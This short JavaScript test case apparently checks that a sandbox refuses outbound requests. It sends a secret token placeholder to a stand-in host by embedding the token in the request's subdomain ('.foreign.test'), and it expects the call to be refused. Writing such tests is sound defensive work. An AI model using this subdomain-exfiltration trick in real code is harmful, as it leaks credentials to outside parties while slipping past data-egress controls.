// expect: http-refused
// Sends it in the name of the server.
httpGet('http://' + encodeURIComponent('%SECRET:TOKEN%'.replace(/[^a-z0-9]/gi, '')) + '.foreign.test/');
return true;
